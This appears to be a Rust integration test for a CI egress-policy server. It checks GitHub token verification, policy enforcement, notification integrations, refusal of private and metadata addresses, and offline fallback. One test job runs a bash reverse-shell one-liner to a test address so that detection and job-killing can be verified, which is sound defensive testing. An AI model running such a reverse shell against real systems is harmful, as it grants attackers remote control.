//! The main job with a policy server instead of a directory of files: attached by command line, resolved with an identity that
//! GitHub vouches for, enforced, told; and what happens while the server is away.

use anyhow::{Context, Result, ensure};
use aws_lc_rs::encoding::AsDer as _;
use aws_lc_rs::rsa::{KeyPair, KeySize};
use aws_lc_rs::signature::KeyPair as _;
use base64::Engine as _;
use base64::engine::general_purpose::{STANDARD, URL_SAFE_NO_PAD};
use jsonwebtoken::{Algorithm, EncodingKey, Header};
use portcullis_tests::gate::step;
use portcullis_tests::patience::wait_for;
use portcullis_tests::server::http::Response;
use portcullis_tests::server::object_store::ObjectStore;
use portcullis_tests::world::{MonitorOptions, Process};
use portcullis_tests::{Canary, Job, JobOutcome, JobResult, StepKind, World};
use rcgen::{BasicConstraints, CertificateParams, CertifiedIssuer, IsCa};
use serde_json::{Value, json};
use std::fs;
use std::net::TcpListener;
use std::path::{Path, PathBuf};
use std::process::Stdio;
use std::sync::{Arc, Mutex};
use std::thread;

/// Where the server listens: a machine of the world's internet.
const ADDRESS: &str = "198.51.100.200";
const URL: &str = "https://198.51.100.200:8440";

/// Where GitHub signs.
const ISSUER: &str = "token.actions.githubusercontent.com";
/// Where a job asks for a token.
const PIPELINES: &str = "pipelines.actions.githubusercontent.com";

const POLICY: &str = "name: hello-build
egress-policy: block
allowed-endpoints: [git.test:443, pypi.test:443, files.pypi.test:443, api.ok.test:443]
on-failure: last-known-good
";

struct Store<'a> {
    world: &'a World,
    program: PathBuf,
    directory: PathBuf,
    process: Option<Process>,
}

impl<'a> Store<'a> {
    fn new(world: &'a World) -> Result<Self> {
        let directory = world.root().join("store");
        fs::create_dir_all(&directory)?;
        let mut parameters = CertificateParams::default();
        parameters.is_ca = IsCa::Ca(BasicConstraints::Unconstrained);
        let authority = CertifiedIssuer::self_signed(parameters, rcgen::KeyPair::generate()?)?;
        let key = rcgen::KeyPair::generate()?;
        let certificate =
            CertificateParams::new(vec![ADDRESS.to_owned()])?.signed_by(&key, &authority)?;
        fs::write(directory.join("certificate.pem"), certificate.pem())?;
        fs::write(directory.join("key.pem"), key.serialize_pem())?;
        // The monitor asks the store and GitHub.
        let github = fs::read_to_string(world.authority_file())?;
        fs::write(directory.join("authorities.pem"), authority.pem() + &github)?;
        fs::write(directory.join("token"), "an-admin-token-of-this-test-alone-0123456789")?;
        let at = directory.display();
        let configuration = format!(
            "listen = \"{ADDRESS}:8440\"\npublic-url = \"{URL}\"\nadmin-token-file = \"{at}/token\"\nca-file = \"{at}/authorities.pem\"\n\
             [database]\nurl = \"sqlite:{at}/store.db\"\n\
             [tls]\ncertificate-file = \"{at}/certificate.pem\"\nkey-file = \"{at}/key.pem\"\n\
             [github]\nissuer = \"https://{ISSUER}\"\n\
             [notifications]\nallowed-networks = [\"{ADDRESS}/32\"]\nallow-http = true\nretry-seconds = [1, 1]\n"
        );
        fs::write(directory.join("store.toml"), configuration)?;
        Ok(Self { world, program: world.install_program("portcullis")?, directory, process: None })
    }

    fn start(&mut self) -> Result<()> {
        let address = self.directory.join("address");
        let _ = fs::remove_file(&address);
        let log = fs::File::options().create(true).append(true).open(self.directory.join("log"))?;
        let process = self
            .world
            .internet_command_with_names(&self.program)
            .arg("serve")
            .args(["--config".as_ref(), self.directory.join("store.toml").as_os_str()])
            .args(["--address-file".as_ref(), address.as_os_str()])
            .spawn(Stdio::null(), Stdio::null(), log)?;
        self.process = Some(process);
        wait_for(&format!("the store to listen; {}", self.log()), || address.exists().then_some(()))
    }

    fn stop(&mut self) -> Result<()> {
        let mut process = self.process.take().context("it does not run")?;
        process.signal(nix::sys::signal::Signal::SIGTERM)?;
        ensure!(process.wait()?.success(), "{}", self.log());
        Ok(())
    }

    fn log(&self) -> String {
        fs::read_to_string(self.directory.join("log")).unwrap_or_default()
    }

    /// The operator's command line.
    fn command(&self, arguments: &[&str]) -> Result<String> {
        self.world
            .internet_command_with_names(&self.program)
            .args(arguments)
            .args(["--server", URL, "--token-file"])
            .arg(self.directory.join("token"))
            .arg("--ca-file")
            .arg(self.directory.join("authorities.pem"))
            .text()
    }

    fn json(&self, arguments: &[&str]) -> Result<Value> {
        let text = self.command(&[arguments, &["--output", "json"]].concat())?;
        serde_json::from_str(&text).with_context(|| text.clone())
    }

    /// Enrols the runner host and tells its monitor where the store is.
    fn enrol(&self) -> Result<()> {
        let token = self.command(&["enrol", "create", "--cluster", "prod-linux"])?;
        let file = self.directory.join("enrolment");
        fs::write(&file, token)?;
        let etc = self.world.root().join("etc/portcullis");
        fs::create_dir_all(&etc)?;
        let enrolled = self
            .world
            .command(&self.program)
            .args(["enrol", "host", "--server", URL, "--name", "runner-host", "--enrolment-file"])
            .arg(&file)
            .arg("--ca-file")
            .arg(self.directory.join("authorities.pem"))
            .arg("--credential-file")
            .arg(etc.join("credential"))
            .text()?;
        ensure!(enrolled.contains("cluster prod-linux"), "{enrolled}");
        fs::copy(self.directory.join("authorities.pem"), etc.join("authorities.pem"))?;
        self.world.write_configuration(&format!(
            "cluster = \"prod-linux\"\n[store]\nurl = \"{URL}\"\nca-file = \"/etc/portcullis/authorities.pem\"\n"
        ))
    }

    /// Waits until the store has a run whole, and returns its only job.
    fn ended_job(&self, run: &str, events: usize) -> Result<Value> {
        wait_for(&format!("run {run} with {events} events; {}", self.log()), || {
            let run = self.json(&["runs", run]).ok()?;
            let job = run["job_records"].get(0)?.clone();
            let is_whole = job["state"] == "ended" && job["events"].as_u64() == Some(events as u64);
            is_whole.then_some(job)
        })
    }
}

/// GitHub as far as it signs tokens: for whoever asks with the job's own request token, with the audience that is asked for.
fn github(world: &World, claims: &Arc<Mutex<Value>>) -> Result<()> {
    let pair = KeyPair::generate(KeySize::Rsa2048)?;
    let der = pair.as_der()?;
    let pem = format!(
        "-----BEGIN PRIVATE KEY-----\n{}\n-----END PRIVATE KEY-----\n",
        STANDARD.encode(der.as_ref())
    );
    let key = EncodingKey::from_rsa_pem(pem.as_bytes())?;
    let public = pair.public_key();
    let keys = json!({ "keys": [{
        "kty": "RSA", "use": "sig", "alg": "RS256", "kid": "k",
        "n": URL_SAFE_NO_PAD.encode(public.modulus().big_endian_without_leading_zero()),
        "e": URL_SAFE_NO_PAD.encode(public.exponent().big_endian_without_leading_zero()),
    }] });
    let discovery = json!({ "issuer": format!("https://{ISSUER}"), "jwks_uri": format!("https://{ISSUER}/jwks") });
    world.web().route(ISSUER, "/.well-known/", move |_| Response::ok(discovery.to_string()));
    world.web().route(ISSUER, "/jwks", move |_| Response::ok(keys.to_string()));
    let claims = Arc::clone(claims);
    world.web().route(PIPELINES, "/idtoken", move |request| {
        let bearer = request
            .headers
            .iter()
            .any(|(name, value)| name == "authorization" && value == "Bearer r3quest");
        if !bearer || !request.query.contains("audience=https%3A%2F%2F198.51.100.200%3A8440") {
            return Response::new(403, request.query.clone());
        }
        let header = Header { kid: Some("k".to_owned()), ..Header::new(Algorithm::RS256) };
        let claims = claims.lock().map(|claims| claims.clone()).unwrap_or_default();
        match jsonwebtoken::encode(&header, &claims, &key) {
            Ok(token) => Response::ok(json!({ "value": token }).to_string()),
            Err(error) => Response::new(500, error.to_string()),
        }
    });
    Ok(())
}

fn claims(run_id: u64) -> Value {
    let now = jiff::Timestamp::now().as_second();
    json!({
        "iss": format!("https://{ISSUER}"), "aud": URL, "sub": "repo:octo/hello", "iat": now, "nbf": now, "exp": now + 600,
        "repository": "octo/hello", "workflow_ref": "octo/hello/.github/workflows/ci.yml@refs/heads/main",
        "run_id": run_id.to_string(), "run_attempt": "1",
    })
}

fn job(run_id: u64, canary: &Canary) -> Result<Job> {
    let file = Path::new(concat!(env!("CARGO_MANIFEST_DIR"), "/jobs/main.yml"));
    let mut job = Job::from_file(file)?.secret("DEPLOY_TOKEN", canary.as_str());
    job.context.run_id = run_id;
    // One runner, several jobs: each begins as on a fresh checkout.
    job.steps.insert(0, step("clean", "find . -mindepth 1 -delete"));
    "octo/hello/.github/workflows/ci.yml@refs/heads/main".clone_into(&mut job.context.workflow_ref);
    job.context.id_token_request_url = Some(format!("https://{PIPELINES}/idtoken?api-version=2.0"));
    job.context.id_token_request_token = Some("r3quest".to_owned());
    Ok(job)
}

/// Makes an integration, and has the store tell it that this is a test.
fn integrate(store: &Store<'_>, name: &str, target: &Value, selection: &Value) -> Result<()> {
    let file = store.directory.join("integration.json");
    let body = json!({ "name": name, "target": target, "selection": selection });
    fs::write(&file, body.to_string())?;
    store.command(&["integration", "create", &file.display().to_string()])?;
    let tested = store.command(&["integration", "test", name])?;
    ensure!(tested.contains("works"), "{tested}");
    Ok(())
}

/// What people's receivers got at a host, as JSON, in order; tests left out.
fn told(world: &World, host: &str) -> Vec<Value> {
    let requests = world.web().requests();
    requests
        .iter()
        .filter(|request| request.host == host)
        .filter_map(|request| serde_json::from_slice::<Value>(&request.body).ok())
        .filter(|body| !body.to_string().contains("this is a test"))
        .collect()
}

/// People are told of a blocked call and of a job that was killed; where a name leads is looked at each time.
fn people_are_told(store: &Store<'_>, objects: &ObjectStore<'_>, run: u64) -> Result<()> {
    let world = store.world;
    let lab = store.directory.join("lab.yaml");
    fs::write(
        &lab,
        "name: lab\negress-policy: audit\nlockdown-mode: {enabled: true, detections: [Reverse-Shell]}\n",
    )?;
    store.command(&["policy", "apply", &lab.display().to_string()])?;
    store.command(&["attach", "lab", "--repository", "octo/lab"])?;
    let peer = world.internet().run(|| TcpListener::bind("0.0.0.0:4445"))??;
    thread::spawn(move || drop(peer.incoming().collect::<Vec<_>>()));
    let script = format!("(bash -i >& /dev/tcp/{ADDRESS}/4445 0>&1) & sleep 5; echo went-on");
    let mut job = Job::script(&script).repository("octo/lab");
    job.context.run_id = run;
    let result = world.runner(0).run(&job)?;
    ensure!(result.outcome == JobOutcome::Failure, "{}", result.log());

    let hook = wait_for(&format!("the webhook; {}", store.log()), || {
        told(world, "hooks.test").into_iter().find(|body| body["type"] == "detection.created")
    })?;
    let data = &hook["data"];
    for (key, value) in
        [("detection", "Reverse-Shell"), ("repository", "octo/lab"), ("cluster", "prod-linux")]
    {
        ensure!(data[key] == value, "{key}: {hook}");
    }
    ensure!(data["policy"]["name"] == "lab" && data["run_id"] == run, "{hook}");
    ensure!(
        data["is_lockdown"] == true && data["evidence"].to_string().contains(ADDRESS),
        "{hook}"
    );
    ensure!(data["process"]["exe"].to_string().contains("bash"), "{hook}");
    ensure!(data["link"] == format!("{URL}/runs/{run}-1"), "{hook}");
    let calls = told(world, "hooks.test").into_iter().find(|body| body["type"] == "calls.blocked");
    let calls = calls.context("the main job's blocked call was not told")?;
    let listed = calls["data"]["calls"].as_array().context("no calls")?;
    let is_told = listed.iter().any(|call| {
        call["endpoint"].to_string().contains(":4444")
            && call["process"].to_string().contains("python")
            && call["verdict"] == "blocked"
    });
    ensure!(is_told, "{calls}");
    ensure!(calls["data"]["repository"] == "octo/hello", "{calls}");

    let message = wait_for("Slack", || told(world, "slack.test").pop())?;
    let title = "Reverse-Shell in job build of octo/lab; the job was killed";
    ensure!(message["blocks"][0]["text"]["text"] == title, "{message}");
    let object = wait_for("the bucket", || {
        let names = objects.names().ok()?;
        let texts = names.iter().filter(|name| name.starts_with("pc/notifications/"));
        texts.filter_map(|name| objects.text(name).ok()).find(|text| text.contains("octo/lab"))
    })?;
    ensure!(serde_json::from_str::<Value>(&object)?["data"] == *data, "{object}");
    let detections = store.json(&["detections", "--repository", "octo/lab"])?;
    ensure!(detections[0]["id"] == data["id"], "{detections}");
    Ok(())
}

/// An integration whose name leads elsewhere later, and those that lead where nobody may go.
fn addresses_are_looked_at(store: &Store<'_>) -> Result<()> {
    let dns = store.world.dns();
    let target = |host: &str| json!({ "kind": "slack", "url": format!("https://{host}/x") });
    dns.addresses_with_ttl("rebind.test", 0, &["198.51.100.61"])?;
    integrate(store, "rebinding", &target("rebind.test"), &json!({ "detections": false }))?;
    dns.addresses_with_ttl("rebind.test", 0, &["127.0.0.1"])?;
    let error = store.command(&["integration", "test", "rebinding"]).err();
    let error =
        format!("{:#}", error.context("a name that leads to the store's own host was asked")?);
    ensure!(error.contains("127.0.0.1 is not on the internet (loopback)"), "{error}");
    for (host, usage) in [
        ("metadata.special.test", "cloud-metadata"),
        ("link-local.special.test", "link-local"),
        ("private.special.test", "private-use"),
        ("mapped.special.test", "IPv4-mapped"),
    ] {
        let error = integrate(store, host, &target(host), &json!({ "detections": false })).err();
        let error = format!("{:#}", error.with_context(|| format!("{host} was asked"))?);
        ensure!(error.contains(usage) || error.contains("is not on the internet"), "{error}");
    }
    Ok(())
}

fn first_line(result: &JobResult) -> Result<String> {
    let hook = result.step_of_kind(StepKind::StartedHook).context("no started hook")?;
    let line = hook.log.lines().find(|line| line.starts_with("Portcullis: "));
    Ok(line.with_context(|| hook.log.clone())?.to_owned())
}

#[test]
fn the_main_job_runs_by_the_server_and_without_it() -> Result<()> {
    let world = World::builder().main_job().build()?;
    let mut store = Store::new(&world)?;
    store.start()?;
    let told = Arc::new(Mutex::new(claims(11)));
    github(&world, &told)?;
    let policy = store.directory.join("hello-build.yaml");
    fs::write(&policy, POLICY)?;
    store.command(&["policy", "apply", &policy.display().to_string()])?;
    store.command(&["attach", "hello-build", "--repository", "octo/hello"])?;
    store.enrol()?;
    world.install_hooks()?;
    for host in ["hooks.test", "slack.test"] {
        world.dns().addresses(host, &["198.51.100.60"])?;
        world.web().route(host, "/", |_| Response::ok("ok"));
    }
    world.dns().addresses("rebind.test", &["198.51.100.61"])?;
    world.web().route("rebind.test", "/", |_| Response::ok("ok"));
    let objects = ObjectStore::start(&world, ADDRESS, "evidence")?;
    let key = "whsec_MfKQ9r8GKYqrTwjUPD8ILPZIo2LaLaSw";
    let hook = json!({ "kind": "webhook", "url": "https://hooks.test/portcullis", "secret": key });
    let slack = json!({ "kind": "slack", "url": "https://slack.test/services/T/B/x" });
    let bucket = json!({
        "kind": "s3", "bucket": "evidence", "region": "us-east-1", "endpoint": objects.url(), "prefix": "pc",
        "access_key_id": "store", "secret_access_key": "key",
    });
    integrate(&store, "hook", &hook, &json!({ "blocked_calls": true }))?;
    integrate(&store, "slack", &slack, &json!({ "lockdown_only": true }))?;
    integrate(&store, "bucket", &bucket, &json!({}))?;
    addresses_are_looked_at(&store)?;
    let mut monitor = world.monitor(MonitorOptions::default())?;
    let canary = Canary::generate()?;

    // With the server.
    let result = world.runner(0).run(&job(11, &canary)?)?;
    monitor.wait_until_idle()?;
    let shown = format!("{}\n{}\n{}", result.log(), monitor.log(), store.log());
    assert_eq!(result.outcome, JobOutcome::Success, "{shown}");
    world.attacker().assert_untouched(&canary)?;
    let line = first_line(&result)?;
    assert!(
        line.contains("policy hello-build version 1")
            && line.contains("from repository octo/hello, mode block"),
        "{line}"
    );
    let ids = world.job_ids()?;
    let first = ids.first().context("no job was recorded")?;
    let events = world.events(first)?;
    let record = store.ended_job("11", events.len())?;
    assert_eq!(
        (record["identity"].as_str(), record["cluster"].as_str()),
        (Some("verified"), Some("prod-linux")),
        "{shown}"
    );
    assert_eq!(record["posture"], "enforced");
    let stored = store.json(&["events", first, "--all"])?;
    assert_eq!(stored, serde_json::to_value(&events)?, "every event, as it was recorded");
    let blocked = store.command(&["events", first, "--status", "blocked"])?;
    assert!(blocked.contains(":4444") && blocked.contains("python"), "{blocked}");

    // A token that says something else than the job: the store gives no policy, and what was good last applies.
    *told.lock().map_err(|_| anyhow::anyhow!("a handler failed"))? = claims(999);
    let result = world.runner(0).run(&job(12, &canary)?)?;
    monitor.wait_until_idle()?;
    assert!(result.log().contains("contradicts the job's environment"), "{}", result.log());
    world.attacker().assert_untouched(&canary)?;

    people_are_told(&store, &objects, 21)?;
    monitor.wait_until_idle()?;

    // Without the server, also over a restart of the monitor: the last known good policy, and nothing is lost.
    store.stop()?;
    let result = world.runner(0).run(&job(13, &canary)?)?;
    monitor.wait_until_idle()?;
    assert_eq!(result.outcome, JobOutcome::Success, "{}", result.log());
    world.attacker().assert_untouched(&canary)?;
    assert!(first_line(&result)?.contains("policy hello-build version 1"), "{}", result.log());
    assert!(result.log().contains("the last known good policy applies"), "{}", result.log());
    monitor.kill()?;
    monitor.restart()?;
    store.start()?;
    let ids = world.job_ids()?;
    let third = world.events(ids.last().context("no job was recorded")?)?;
    let record = store.ended_job("13", third.len())?;
    assert_eq!(record["identity"], "asserted", "nobody vouched for this job");
    Ok(())
}
